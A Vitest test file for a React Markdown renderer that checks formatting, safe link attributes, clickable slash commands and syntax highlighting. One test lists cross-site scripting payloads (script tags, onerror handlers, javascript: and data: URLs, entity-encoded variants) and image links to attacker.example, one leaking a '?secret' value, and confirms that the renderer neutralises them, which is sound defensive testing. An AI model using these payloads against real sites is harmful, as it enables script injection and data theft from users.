import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import { CommandContext } from './Inlines.tsx';
import { Markdown } from './Markdown.tsx';

afterEach(cleanup);

const htmlOf = (text: string) => render(<Markdown text={text} />).container.innerHTML;

test('the marks of GitHub’s Markdown are shown', () => {
  const html = htmlOf(
    '# Title\n\nA **bold** *word*, `code`, ~~gone~~\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n',
  );
  for (const part of ['Title', '<strong', '<em>', '<code', '<del>', '<ol', '<table']) {
    expect(html).toContain(part);
  }
});

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg/onload=alert(1)>',
  'before <b onclick="alert(1)">x</b> after',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '![x](javascript:alert(1))',
  '![x](https://attacker.example/pixel.png?secret)',
  '[![x](https://attacker.example/p.png)](https://attacker.example)',
  '<https://example.com/" onmouseover="alert(1)>',
  '```html"><img src=x onerror=alert(1)>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
])('a28: nothing in %s runs or loads', (text) => {
  const { container } = render(<Markdown text={text} />);
  expect(container.querySelectorAll('script, img, iframe, svg, object, embed, style, link, form')).toHaveLength(0);
  for (const element of container.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on/);
      if (name === 'href') {
        expect(value).toMatch(/^(https?|mailto):/);
      }
    }
  }
});

test('an image is a link that says so', () => {
  render(<Markdown text="![A cat](https://cats.example/1.png)" />);
  expect(screen.getByRole('link', { name: 'Image: A cat' }).getAttribute('href')).toBe('https://cats.example/1.png');
});

test('links open elsewhere and tell nobody where they were', () => {
  render(<Markdown text="[docs](https://docs.example/)" />);
  const link = screen.getByRole('link', { name: 'docs' });
  expect(link.getAttribute('rel')).toContain('noreferrer');
  expect(link.getAttribute('target')).toBe('_blank');
});

test('character references are read', () => {
  expect(render(<Markdown text="a &amp;&#60;b" />).container.textContent).toBe('a &<b');
});

test('a slash command in code can be pressed', () => {
  const pressed: string[] = [];
  render(
    <CommandContext value={(command) => pressed.push(command)}>
      <Markdown text="Try `/tools` or `ls`." />
    </CommandContext>,
  );
  fireEvent.click(screen.getByRole('button', { name: '/tools' }));
  expect(pressed).toEqual(['/tools']);
  expect(screen.queryByRole('button', { name: 'ls' })).toBeNull();
});

test('code gets its colours when it is complete', async () => {
  const { container, rerender } = render(<Markdown text={'```python\nimport os'} />);
  expect(container.querySelector('.hljs-keyword')).toBeNull();
  rerender(<Markdown text={'```python\nimport os\n```\n'} />);
  await screen.findByText('import', { selector: '.hljs-keyword' });
});
